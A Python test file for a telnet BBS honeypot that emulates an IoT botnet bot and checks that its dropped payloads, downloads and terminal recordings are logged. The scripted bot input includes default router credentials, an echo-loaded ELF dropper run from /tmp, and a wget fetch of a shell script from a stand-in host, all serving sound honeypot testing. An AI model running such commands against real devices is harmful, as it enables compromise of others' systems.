"""A trapped bot's stay, on a session over StringTransport: its payloads are
kept and logged, and its recording holds what its terminal showed."""

from __future__ import annotations

import hashlib
import json
import os
import re
import stat
from pathlib import Path

from twisted.internet.address import IPv4Address
from twisted.internet.task import Clock
from twisted.internet.testing import StringTransport

from bbs.honeypot import PACE
from bbs.config import Config
from bbs.server import BBS
from bbs.session import Session
from bbs.telnet.protocol import TelnetConnection
from tests.world import InlinePool
from tests.events.schema import validate
from tests.events.sink import MemoryEventSink
from tests.shell.dropper import echo_load, elf

_COMMANDS = re.compile(rb"\xff[\xfb-\xfe].|\xff[\xf0-\xfa]", re.DOTALL)


def screen_bytes(wire: bytes) -> bytes:
    """What a telnet client hands its terminal: options and commands gone,
    IAC IAC one 0xFF byte, CR NUL a CR."""
    return _COMMANDS.sub(b"", wire.replace(b"\xff\xff", b"\0IAC\0")) \
        .replace(b"\0IAC\0", b"\xff").replace(b"\r\0", b"\r")


class Bot:
    """A raw line-mode bot: never negotiates, types whole lines."""

    def __init__(self, tmp_path: Path, character_mode: bool = False) -> None:
        self.clock = Clock()
        self.clock.advance(1_795_777_200)
        self.events = MemoryEventSink()
        self.bbs = BBS(Config(bot_policy="shell", data=tmp_path, shell_host="router"),
                       pool=InlinePool(),
                       events=self.events, clock=self.clock)
        self.session = Session(self.bbs)
        self.t = StringTransport(peerAddress=IPv4Address("TCP", "203.0.113.7", 5555),
                                 hostAddress=IPv4Address("TCP", "127.0.0.1", 2323))
        TelnetConnection(self.session, clock=self.clock).makeConnection(self.t)
        self.character_mode = character_mode
        if character_mode:
            self.session.door.dataReceived(b"\xff\xfd\x01\xff\xfd\x03")  # DO ECHO, DO SGA
            assert self.session.editor.character_mode
        self.t.clear()
        self.seen = b"login: "  # the prompt the bot answers first is on its screen

    def type(self, line: str) -> None:
        """Type a line, as its own terminal shows it, and read the answer."""
        self.clock.advance(0.25)
        if self.character_mode:  # the server echoes
            self.session.door.dataReceived(line.encode() + b"\r\n")
        else:
            self.seen += line.encode() + b"\r\n"
            self.session.door_data(line.encode() + b"\r\n")
        self.clock.pump([PACE] * 300)  # a long answer is paced out: let it all go
        self.seen += screen_bytes(self.t.value())
        self.t.clear()

    def of(self, eventid: str) -> list[dict]:
        for e in self.events.events:
            assert validate(e) == [], e
        return [e for e in self.events.events if e["eventid"] == eventid]


def cast_of(bot: Bot) -> tuple[dict, list[list]]:
    (closed,) = bot.of("cowrie.log.closed")
    lines = Path(closed["ttylog"]).read_text(encoding="ascii").splitlines()
    return json.loads(lines[0]), [json.loads(line) for line in lines[1:]]


def test_an_echo_loaded_dropper_is_saved_once_with_its_hash_and_machine(tmp_path: Path) -> None:
    bot = Bot(tmp_path)
    dropper = elf(40, size=2048)
    for line in ["root", "xc3511", "enable", "cd /tmp"] + echo_load(dropper) + ["./upnp", "exit"]:
        bot.type(line)
    assert bot.t.disconnecting
    (saved,) = bot.of("cowrie.session.file_upload")
    digest = hashlib.sha256(dropper).hexdigest()
    assert saved["shasum"] == digest and saved["size"] == 2048
    assert (saved["elf_class"], saved["elf_endian"], saved["elf_machine"]) == (32, "little", "ARM")
    assert (saved["filename"], saved["destfile"], saved["trigger"]) == \
        ("/tmp/upnp", "/tmp/upnp", "exec")
    assert saved["outfile"] == str(tmp_path / "downloads" / digest) and not saved["duplicate"]
    assert Path(saved["outfile"]).read_bytes() == dropper
    assert stat.S_IMODE(os.stat(saved["outfile"]).st_mode) == 0o600
    assert "ARM" in saved["message"] and digest in saved["message"]
    assert bot.of("cowrie.session.file_download") == []
    # The ban comes after the sample and the recording are in the log.
    ids = [e["eventid"] for e in bot.events.events]
    assert ids.index("cowrie.session.file_upload") < ids.index("cowrie.log.closed") \
        < ids.index("bbs.bot.banned")


def test_a_download_target_left_behind_is_kept_at_the_end_with_its_url(tmp_path: Path) -> None:
    bot = Bot(tmp_path)
    for line in ["admin", "admin", "cd /tmp", "echo -ne '#!/bin/sh\\n' > x.sh",
                 "wget http://203.0.113.50/x.sh -O x.sh"]:
        bot.type(line)
    bot.session.door_lost("gone")
    attempt, saved = bot.of("cowrie.session.file_download")
    assert "shasum" not in attempt and attempt["outfile"] == "/tmp/x.sh"
    assert saved["url"] == "http://203.0.113.50/x.sh" and saved["trigger"] == "end"
    assert saved["shasum"] == hashlib.sha256(b"#!/bin/sh\n").hexdigest()
    assert "elf_machine" not in saved


def test_the_recording_is_what_the_bots_terminal_showed(tmp_path: Path) -> None:
    bot = Bot(tmp_path)
    # (the head of a binary: a whole one, hundreds of KB, outgrows a cast's cap)
    for line in ["root", "xc3511", "enable", "cat /proc/mounts", "echo -e 'a\\tb\\r\\nc'",
                 "head -c 300 /bin/echo", "uname -a", "exit"]:
        bot.type(line)
    header, records = cast_of(bot)
    assert header["version"] == 2 and (header["width"], header["height"]) == (80, 24)
    shown = "".join(r[2] for r in records if r[1] == "o")
    assert shown == bot.seen.decode("utf-8", "replace")
    assert "\r\n# cat /proc/mounts\r\nrootfs / rootfs rw 0 0\r\n" in shown
    assert "\n" not in shown.replace("\r\n", "")  # no bare LF: no stair-steps
    typed = [r[2] for r in records if r[1] == "i"]
    assert typed == [line + "\r" for line in ["xc3511", "enable", "cat /proc/mounts",
                                              "echo -e 'a\\tb\\r\\nc'", "head -c 300 /bin/echo",
                                              "uname -a", "exit"]]
    times = [r[0] for r in records]
    assert times == sorted(times) and times[-1] >= 1.5


def test_in_character_mode_the_recording_holds_the_servers_echo(tmp_path: Path) -> None:
    bot = Bot(tmp_path, character_mode=True)
    for line in ["root", "xc3511", "enable", "uname -a", "exit"]:
        bot.type(line)
    _, records = cast_of(bot)
    shown = "".join(r[2] for r in records if r[1] == "o")
    assert shown == bot.seen.decode("utf-8", "replace")
    assert "# uname -a\r\nLinux router" in shown.replace("\x1b[K", "")
